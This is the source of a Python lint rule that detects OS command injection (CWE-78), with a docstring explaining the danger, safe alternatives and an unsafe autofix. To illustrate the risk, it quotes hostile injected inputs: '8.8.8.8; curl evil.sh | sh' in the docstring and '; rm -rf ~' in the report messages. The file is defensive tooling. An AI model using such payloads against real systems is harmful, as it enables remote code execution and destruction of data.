"""## What it does

Detects shell commands built from user input: `os.system`, `os.popen`,
`subprocess.getoutput`, `subprocess.*(..., shell=True)`,
`asyncio.create_subprocess_shell`, paramiko/fabric `exec_command`/`run`, a
`["sh", "-c", cmd]` argument list, `shlex.split` or `.split()` of an interpolated
string (no shell, but the input adds arguments and options), and
programs whose *name* comes from input (`subprocess.run([user_program, ...])`,
`os.exec*`/`os.spawn*`). Input means route-handler parameters, request data,
`input()`, `sys.argv` and argparse values, followed through assignments,
f-strings, `+`, `%`, `.format`, `join` and same-module helpers; commands built
from other non-constant values (a helper's parameter) are reported as a
warning.

## Why is this bad?
A shell interprets `;`, `|`, `&&`, `$(...)` and backticks, so a "host name"
such as `8.8.8.8; curl evil.sh | sh` runs the attacker's command with the
server's privileges. Quoting by hand (`f"'{name}'"`) does not help: the input
can close the quote.

## Example
```python
@app.get("/ping")
def ping(host: str):
    return subprocess.check_output(f"ping -c 1 {host}", shell=True)
```

## Use instead
```python
@app.get("/ping")
def ping(host: str):
    return subprocess.check_output(["ping", "-c", "1", host])
```

## What it does not flag
Constant commands, argument lists run without a shell whose program is
fixed, values passed through `shlex.quote` / `shlex.join`, input converted with
`int()`, checked against a literal allowlist or a full-match regex, and
environment variables (configuration, not user input).

## Fix safety
When the command is an f-string or concatenation whose literal parts contain
no shell syntax, the fix turns it into an argument list and drops
`shell=True` (`os.system(cmd)` becomes `subprocess.call([...])` when
`subprocess` is imported). It is unsafe: the command no longer goes through
a shell (no globbing, no `~`, no variables), and non-string values must be
converted with `str()`.

## References
- https://cwe.mitre.org/data/definitions/78.html
- https://docs.python.org/3/library/subprocess.html#security-considerations
"""
from __future__ import annotations

import ast
import shlex

import libcst as cst

from caveat.analysis import taint
from caveat.analysis.flow import resolved_call_name, value_before
from caveat.engine.findings import Fix, Severity
from caveat.rules.base import Rule, RuleContext
from caveat.rules.security._names import imports_any
from caveat.rules.fixkit import keyword, rewrite_expression, single_edit_fix, without_keyword

ALWAYS_SHELL = frozenset({
    "os.system", "os.popen", "os.popen2", "os.popen3", "os.popen4", "popen2.popen2", "popen2.popen3",
    "popen2.popen4", "popen2.Popen3", "popen2.Popen4", "commands.getoutput", "commands.getstatusoutput",
    "subprocess.getoutput", "subprocess.getstatusoutput", "asyncio.create_subprocess_shell",
    "pexpect.run", "pexpect.spawn", "pexpect.popen_spawn.PopenSpawn", "os.posix_spawn_shell",
})
SUBPROCESS = frozenset({"subprocess.Popen", "subprocess.call", "subprocess.check_call", "subprocess.check_output",
                        "subprocess.run"})
NO_SHELL_PROGRAM = frozenset({
    "os.execl", "os.execle", "os.execlp", "os.execlpe", "os.execv", "os.execve", "os.execvp", "os.execvpe",
    "os.spawnl", "os.spawnle", "os.spawnlp", "os.spawnlpe", "os.spawnv", "os.spawnve", "os.spawnvp",
    "os.spawnvpe", "os.startfile", "asyncio.create_subprocess_exec", "os.posix_spawn", "os.posix_spawnp",
})
REMOTE_METHODS = frozenset({"exec_command", "sudo", "run", "local"})
REMOTE_MODULES = ("paramiko", "fabric", "invoke", "fabric2", "spur")
SINK_NAMES = frozenset(n.rsplit(".", 1)[-1] for n in ALWAYS_SHELL | SUBPROCESS | NO_SHELL_PROGRAM) | REMOTE_METHODS
SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "/bin/sh", "/bin/bash", "/usr/bin/bash", "/bin/zsh",
                    "cmd", "cmd.exe", "powershell", "pwsh", "powershell.exe"})
SHELL_SYNTAX = set("|&;<>()$`*?[]{}~!#'\"\\\n")


class CommandInjection(Rule):
    code = "CAV136"
    name = "command-injection"
    category = "command-injection"
    cwe = 78
    severity = Severity.ERROR
    fixable = True
    supersedes = ("B601", "B602", "B604", "B605", "B606", "B609")
    replaces = ("B602", "B605", "B606")

    def check(self, ctx: RuleContext) -> None:
        remote: bool | None = None  # looked up once, and only for ``x.run(...)``-style calls
        for call in ctx.nodes(ast.Call):
            func = call.func
            short = func.attr if isinstance(func, ast.Attribute) else (func.id if isinstance(func, ast.Name) else "")
            if short not in SINK_NAMES and not short.startswith(("spawn", "exec", "posix_spawn")):
                continue
            name = ctx.qualified_name(call.func) or ""
            if not name:
                if not (isinstance(call.func, ast.Attribute) and call.func.attr in REMOTE_METHODS):
                    continue
                if remote is None:
                    remote = imports_any(ctx, *REMOTE_MODULES)
                if not remote:
                    continue
                name = resolved_call_name(ctx, call) or ""
            if name in ALWAYS_SHELL:
                self._shell(ctx, call, name, _command_arg(call, "cmd", "command"))
            elif name in SUBPROCESS:
                self._subprocess(ctx, call, name)
            elif name in NO_SHELL_PROGRAM:
                program = _program(ctx, call, name)
                if program is not None:
                    self._program(ctx, call, name, program)
            elif isinstance(call.func, ast.Attribute) and call.func.attr in REMOTE_METHODS \
                    and self._remote(ctx, call, name):
                self._shell(ctx, call, name or call.func.attr, _command_arg(call, "command", "cmd"), remote=True)

    # --- sinks -------------------------------------------------------------------------
    def _subprocess(self, ctx: RuleContext, call: ast.Call, name: str) -> None:
        command = _command_arg(call, "args")
        if command is None:
            return
        shell = keyword(call, "shell")
        shell_on = shell is not None and not (isinstance(shell.value, ast.Constant) and not shell.value.value)
        if shell_on:
            self._shell(ctx, call, name, command)
            return
        resolved = _resolve(ctx, command)
        if isinstance(resolved, (ast.List, ast.Tuple)) and resolved.elts:
            first = resolved.elts[0]
            if isinstance(first, ast.Constant) and str(first.value) in SHELLS and len(resolved.elts) >= 3 \
                    and isinstance(resolved.elts[1], ast.Constant) and str(resolved.elts[1].value) in ("-c", "/c", "-Command"):
                self._shell(ctx, call, f"{name}([{first.value!r}, {resolved.elts[1].value!r}, ...])", resolved.elts[2])
                return
            if not isinstance(first, ast.Starred):
                self._program(ctx, call, name, first)
            return
        if isinstance(resolved, ast.Call) and (ctx.qualified_name(resolved.func) or "") == "shlex.split" and resolved.args:
            self._shell(ctx, call, f"{name}(shlex.split(...))", resolved.args[0], split=True)
            return
        if isinstance(resolved, ast.Call) and isinstance(resolved.func, ast.Attribute) and resolved.func.attr == "split" \
                and not resolved.args and _is_text(_resolve(ctx, resolved.func.value)):
            # f"ping {host}".split(): no shell, but the input can still add arguments and options.
            self._shell(ctx, call, f"{name}(command.split())", resolved.func.value, split=True)
            return
        if _is_text(resolved):
            # A string without a shell is the program name (plus arguments on Windows).
            self._program(ctx, call, name, command)

    def _shell(self, ctx: RuleContext, call: ast.Call, name: str, command: ast.AST | None, *,
               remote: bool = False, split: bool = False) -> None:
        if command is None or _constant(ctx, command):
            return
        label = f"`{ctx.source(call.func)}`" if not name.startswith(("subprocess", "os.", "asyncio", "commands")) \
            else f"`{name.split('(')[0]}`"
        if name in SUBPROCESS:
            label = f"`{ctx.source(call.func)}(..., shell=True)`"
        where = "on the remote host" if remote else "in a shell"
        found = taint.origins(ctx, command, kind="shell")
        sources = sorted({o.label for o in found if o.kind == "user"})
        fix = None if split or remote else _argv_fix(ctx, call, name, command)
        if sources and split:
            ctx.report(self, call, f"`{ctx.source(call.func)}` splits a command string built from {sources[0]} into its "
                                   f"arguments: no shell, but the input can add its own options and arguments "
                                   f"(`-oProxyCommand=...`, `--output=/etc/...`). Build the list yourself, with the "
                                   f"value as one element after `--`.")
            return
        if sources:
            local = not taint.remote_only(sources)  # sys.argv / input(): the user already has a shell
            ctx.report(self, call, f"{label} runs a command {where} built from {sources[0]}: input such as "
                                   f"`; rm -rf ~` or `$(curl ...)` runs as its own command. Pass an argument list "
                                   f"without a shell (`subprocess.run([\"prog\", arg])`), or quote each value with "
                                   f"`shlex.quote`.", fix=fix, severity=Severity.WARNING if local else None)
            return
        origins = sorted({o for o in found if o.kind not in ("user", "env")}, key=lambda o: o.label)
        if not origins or split:
            return
        ctx.report(self, call, f"{label} runs a command {where} built from {origins[0].label}; if that value can "
                               f"come from a user it is command injection. Pass an argument list without a shell, "
                               f"or quote the value with `shlex.quote`.", fix=fix, severity=Severity.WARNING)

    def _program(self, ctx: RuleContext, call: ast.Call, name: str, program: ast.AST) -> None:
        if _constant(ctx, program):
            return
        # A launcher running the program named on its own command line is doing its job.
        sources = taint.remote_only(taint.user_input_sources(ctx, program, kind="shell"))
        if sources:
            ctx.report(self, call, f"`{ctx.source(call.func)}` runs a program whose name comes from {sources[0]}: the "
                                   f"caller chooses what executes. Map the input to a fixed program with an allowlist.")

    @staticmethod
    def _remote(ctx: RuleContext, call: ast.Call, name: str) -> bool:
        if name.startswith(REMOTE_MODULES):
            return True
        attr = call.func.attr
        if attr == "exec_command":
            return imports_any(ctx, "paramiko")
        return imports_any(ctx, "fabric", "invoke", "fabric2")


def _command_arg(call: ast.Call, *names: str) -> ast.AST | None:
    if call.args:
        first = call.args[0]
        return None if isinstance(first, ast.Starred) else first
    for name in names:
        found = keyword(call, name)
        if found is not None:
            return found.value
    return None


def _program(ctx: RuleContext, call: ast.Call, name: str) -> ast.AST | None:
    args = call.args
    if name.startswith("os.spawn"):
        return args[1] if len(args) >= 2 else None
    if name == "asyncio.create_subprocess_exec" or name.startswith(("os.exec", "os.posix_spawn", "os.startfile")):
        return args[0] if args and not isinstance(args[0], ast.Starred) else None
    return None


def _resolve(ctx: RuleContext, node: ast.AST) -> ast.AST:
    if isinstance(node, ast.Name):
        value = value_before(ctx, node)
        if value is not None:
            return value
    return node


def _is_text(node: ast.AST) -> bool:
    return isinstance(node, (ast.JoinedStr, ast.BinOp)) or (
        isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in ("format", "join"))


def _constant(ctx: RuleContext, node: ast.AST) -> bool:
    return all(o.kind == "env" for o in taint.origins(ctx, node, kind="shell"))


# --- the fix: f-string / concatenation -> argument list ---------------------------------

def _parts(node: ast.AST) -> list[str | ast.AST] | None:
    """Literal text and interpolated expressions of an f-string or ``+`` chain."""
    if isinstance(node, ast.JoinedStr):
        parts: list[str | ast.AST] = []
        for value in node.values:
            if isinstance(value, ast.Constant):
                parts.append(str(value.value))
            elif isinstance(value, ast.FormattedValue) and value.conversion == -1 and value.format_spec is None:
                parts.append(value.value)
            else:
                return None
        return parts
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        left, right = _parts(node.left), _parts(node.right)
        return None if left is None or right is None else left + right
    if isinstance(node, ast.Constant) and isinstance(node.value, str):
        return [node.value]
    if isinstance(node, ast.expr):
        return [node]
    return None


def _argv(ctx: RuleContext, command: ast.AST) -> str | None:
    parts = _parts(command)
    if not parts or not isinstance(parts[0], str):
        return None
    tokens: list[list[str | ast.AST]] = [[]]
    for part in parts:
        if isinstance(part, str):
            if SHELL_SYNTAX & set(part):
                return None
            pieces = part.split(" ")
            for i, piece in enumerate(pieces):
                if i > 0 and tokens[-1]:
                    tokens.append([])
                if piece:
                    tokens[-1].append(piece)
        else:
            if isinstance(part, ast.Call) and (ctx.qualified_name(part.func) or "") == "shlex.quote" and part.args:
                part = part.args[0]
            tokens[-1].append(part)
    rendered = []
    for token in tokens:
        if not token:
            continue
        if len(token) == 1 and isinstance(token[0], str):
            rendered.append('"' + token[0] + '"')
        elif len(token) == 1:
            rendered.append(ctx.source(token[0]))
        else:
            inner = "".join(p.replace("{", "{{").replace("}", "}}") if isinstance(p, str) else "{" + ctx.source(p) + "}"
                            for p in token)
            rendered.append(f'f"{inner}"')
    if len(rendered) < 2 or any('"' in (t if isinstance(t, str) else "") for tok in tokens for t in tok if isinstance(t, str)):
        return None
    try:
        shlex.split(" ".join(p for tok in tokens for p in tok if isinstance(p, str)))
    except ValueError:
        return None
    return "[" + ", ".join(rendered) + "]"


def _argv_fix(ctx: RuleContext, call: ast.Call, name: str, command: ast.AST) -> Fix | None:
    target = command
    if isinstance(command, ast.Name):
        value = value_before(ctx, command)
        if value is None:
            return None
        target = value
    argv = _argv(ctx, target)
    if argv is None or target is not command:
        return None  # only rewrite a command written in the call itself
    if name in SUBPROCESS:
        if not call.args or call.args[0] is not command:
            return None

        def transform(expr: cst.BaseExpression):
            expr = without_keyword(expr, "shell")
            if not isinstance(expr, cst.Call) or not expr.args:
                return None
            args = list(expr.args)
            args[0] = args[0].with_changes(value=cst.parse_expression(argv))
            return expr.with_changes(args=args)

        return single_edit_fix("Run an argument list without a shell", rewrite_expression(ctx, call, transform),
                               safe=False)
    if name == "os.system" and ctx.imports.get("subprocess") == "subprocess" and call.args and len(call.args) == 1:
        return Fix("Run an argument list without a shell (subprocess.call)",
                   (ctx.replace(call, f"subprocess.call({argv})"),), safe=False)
    return None
